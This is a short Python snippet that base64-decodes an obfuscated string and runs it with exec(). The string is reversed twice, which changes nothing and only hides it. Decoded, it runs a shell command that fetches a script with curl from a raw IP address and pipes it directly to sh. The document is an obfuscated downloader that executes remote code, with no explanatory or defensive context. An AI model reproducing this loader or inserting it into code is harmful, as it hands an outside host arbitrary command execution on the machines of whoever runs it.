import base64 as b
_x = "aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMzEuNDEuMjQ0Ljkvc3xzaCIp"
exec(b.b64decode(_x[::-1][::-1]))
